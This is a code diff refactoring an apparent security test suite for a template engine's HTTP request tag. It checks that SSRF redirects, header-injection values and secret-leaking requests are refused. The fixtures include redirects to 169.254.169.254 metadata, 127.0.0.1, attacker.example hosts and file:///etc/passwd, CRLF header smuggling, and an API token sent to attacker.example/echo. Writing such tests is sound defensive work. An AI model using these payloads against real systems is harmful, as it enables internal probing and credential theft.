@@ -9,13 +9,18 @@
  * allowed server speaks plain http; the guard's own tests cover it).
  */
 import type { Canaries, HarnessContext, RenderAttempt, SecurityCase } from '../types.js';
-import { judge } from './helpers.js';
+import { type Refusal, allRefused, judge } from './helpers.js';
 import { harnessHttp, type HttpHarnessState } from '../host/http.js';
 
 const PROBE = '{api endpoint=$u status_var=s http_code_var=c}[{$s}/{$c}]';
 
 function render(h: HarnessContext, u: string, extra: Record<string, unknown> = {}, template = PROBE): Promise<RenderAttempt> {
   return h.render(template, { vars: { u, ...extra } });
+}
+
+/** PROBE on `u`, which must be refused with one of `codes`. */
+function probeRefused(u: string, codes: string[]): Refusal {
+  return { template: PROBE, codes, opts: { vars: { u } }, label: JSON.stringify(u) };
 }
 
 /** Every URL of the corpus must be refused with one of `codes`. */
@@ -28,11 +33,8 @@ function urlsRefused(id: string, title: string, urls: (s: HttpHarnessState) => s
       const s = harnessHttp();
       const before = s.seen.length;
       const list = urls(s);
-      for (const u of list) {
-        const a = await render(h, u);
-        const o = judge(h, a, a.code !== undefined && codes.includes(a.code), `refused with ${codes.join(' or ')}`);
-        if (o.status !== 'contained') return { ...o, detail: `${JSON.stringify(u)}: ${o.detail}` };
-      }
+      const bad = await allRefused(h, list.map((u) => probeRefused(u, codes)));
+      if (bad) return bad;
       if (s.seen.length !== before) return { status: 'escaped', detail: 'a refused URL still reached the allowed server' };
       return { status: 'contained', detail: `${list.length} URLs refused with ${codes.join(' or ')}` };
     },
@@ -134,20 +136,18 @@ export const NET: SecurityCase[] = [
     async run(h) {
       const s = harnessHttp();
       const redirect = (to: string, status = 302): string => at(s, 'api.example.com', `/redirect?status=${status}&to=${encodeURIComponent(to)}`);
-      const refused: [string, string[]][] = [
-        [redirect('http://169.254.169.254/latest/meta-data/'), SSRF],
-        [redirect(`http://127.0.0.1:${s.internal.port}/`), SSRF],
-        [redirect(`//127.0.0.1:${s.internal.port}/`), SSRF],
-        [redirect(`http://internal.attacker.example:${s.internal.port}/`, 307), SSRF],
-        [redirect(`http://metadata.attacker.example:${s.metadata.port}/`, 308), SSRF],
-        [redirect('file:///etc/passwd'), SSRF_OR_URL],
-        [at(s, 'api.example.com', '/chain?n=0'), ['E_HTTP_LIMIT']],
+      const post = (u: string, codes: string[]): Refusal => ({ template: '{api endpoint=$u method="POST" body="x" status_var=s}[{$s}]', codes, opts: { vars: { u } }, label: JSON.stringify(u) });
+      const refused = [
+        post(redirect('http://169.254.169.254/latest/meta-data/'), SSRF),
+        post(redirect(`http://127.0.0.1:${s.internal.port}/`), SSRF),
+        post(redirect(`//127.0.0.1:${s.internal.port}/`), SSRF),
+        post(redirect(`http://internal.attacker.example:${s.internal.port}/`, 307), SSRF),
+        post(redirect(`http://metadata.attacker.example:${s.metadata.port}/`, 308), SSRF),
+        post(redirect('file:///etc/passwd'), SSRF_OR_URL),
+        post(at(s, 'api.example.com', '/chain?n=0'), ['E_HTTP_LIMIT']),
       ];
-      for (const [u, codes] of refused) {
-        const a = await h.render('{api endpoint=$u method="POST" body="x" status_var=s}[{$s}]', { vars: { u } });
-        const o = judge(h, a, a.code !== undefined && codes.includes(a.code), `refused with ${codes.join(' or ')}`);
-        if (o.status !== 'contained') return { ...o, detail: `${u}: ${o.detail}` };
-      }
+      const bad = await allRefused(h, refused);
+      if (bad) return bad;
       // Authorization is dropped when a redirect leaves the origin.
       const before = s.seen.length;
       const a = await h.render('{append var=hd value="Authorization: Bearer CROSS-ORIGIN-CRED"}{api endpoint=$u headers=$hd var=r}{$r}', {
@@ -197,11 +197,10 @@ export const NET: SecurityCase[] = [
       const s = harnessHttp();
       const before = s.seen.length;
       const forms = ['X: a\r\nHost: internal', 'X: a\nX-Other: b', 'Host: 169.254.169.254', 'Transfer-Encoding: chunked', 'Content-Length: 0', 'Bad Name: x', 'Connection: close', 'Proxy-Authorization: x', 'X-Nul: a\u0000b', ': no-name', 'no colon'];
-      for (const hv of forms) {
-        const a = await h.render('{append var=hd value=$hv}{api endpoint=$u headers=$hd status_var=s}[{$s}]', { vars: { u: at(s, 'api.example.com', '/hello'), hv } });
-        const o = judge(h, a, a.code === 'E_BAD_HEADER', 'refused with E_BAD_HEADER');
-        if (o.status !== 'contained') return { ...o, detail: `${JSON.stringify(hv)}: ${o.detail}` };
-      }
+      const t = '{append var=hd value=$hv}{api endpoint=$u headers=$hd status_var=s}[{$s}]';
+      const u = at(s, 'api.example.com', '/hello');
+      const bad = await allRefused(h, forms.map((hv) => ({ template: t, codes: ['E_BAD_HEADER'], opts: { vars: { u, hv } }, label: JSON.stringify(hv) })));
+      if (bad) return bad;
       if (s.seen.length !== before) return { status: 'escaped', detail: 'a request with a refused header reached the server' };
       return { status: 'contained', detail: `${forms.length} header forms refused before any request` };
     },
@@ -213,11 +212,8 @@ export const NET: SecurityCase[] = [
     async run(h) {
       const s = harnessHttp();
       const limited = [at(s, 'api.example.com', '/bomb'), at(s, 'api.example.com', '/endless'), `http://api.example.com:${s.rawPort}/many-headers`];
-      for (const u of limited) {
-        const a = await render(h, u);
-        const o = judge(h, a, a.code === 'E_HTTP_LIMIT', 'refused with E_HTTP_LIMIT');
-        if (o.status !== 'contained') return { ...o, detail: `${u}: ${o.detail}` };
-      }
+      const bad = await allRefused(h, limited.map((u) => probeRefused(u, ['E_HTTP_LIMIT'])));
+      if (bad) return bad;
       const t0 = performance.now();
       const a = await h.render('{api endpoint=$u timeout=1 status_var=s http_code_var=c}[{$s}/{$c}]', { vars: { u: at(s, 'api.example.com', '/drip') } });
       const ms = performance.now() - t0;
@@ -279,11 +275,9 @@ export const NET: SecurityCase[] = [
         '{secret var=t key="API_TOKEN"}{append var=hd value="X-Api-Key: `$t`"}{api endpoint=$u headers=$hd status_var=s}',
       ];
       const expected = ['E_SECRET_DENIED', 'E_SECRET_DENIED', 'E_SECRET_NOT_FOUND', 'E_SECRET_DENIED', 'E_SECRET_DENIED'];
-      for (let i = 0; i < forms.length; i++) {
-        const a = await h.render(forms[i]!, { vars: { u: at(s, 'attacker.example', '/echo') } });
-        const o = judge(h, a, a.code === expected[i], `refused with ${expected[i]}`);
-        if (o.status !== 'contained') return { ...o, detail: `${forms[i]}: ${o.detail}` };
-      }
+      const u = at(s, 'attacker.example', '/echo');
+      const bad = await allRefused(h, forms.map((t, i) => ({ template: t, codes: [expected[i]!], opts: { vars: { u } } })));
+      if (bad) return bad;
       if (s.seen.length !== before) return { status: 'escaped', detail: 'a refused request reached the server' };
       // Control: the same secret to a host it lists is substituted (so the refusals above are the rule, not a broken feature).
       const ok = await h.render(forms[3]!, { vars: { u: at(s, 'api.example.com', '/hello') } });
@@ -308,13 +302,11 @@ export const NET: SecurityCase[] = [
       ];
       const answers: string[] = [];
       let slowest = 0;
-      for (const u of targets) {
-        const a = await render(h, u);
-        const o = judge(h, a, a.code === 'E_SSRF_DENIED', 'refused with E_SSRF_DENIED');
-        if (o.status !== 'contained') return { ...o, detail: `${u}: ${o.detail}` };
-        answers.push(`${a.code} ${(a.message ?? '').split(u).join('<url>')}`);
+      const bad = await allRefused(h, targets.map((u) => probeRefused(u, SSRF)), (a, i) => {
+        answers.push(`${a.code} ${(a.message ?? '').split(targets[i]!).join('<url>')}`);
         slowest = Math.max(slowest, a.ms);
-      }
+      });
+      if (bad) return bad;
       const literal = new Set(answers.slice(0, 3));
       const named = new Set(answers.slice(3));
       if (literal.size !== 1 || named.size !== 1) return { status: 'escaped', detail: `answers differ by target: ${[...literal, ...named].join(' | ')}` };
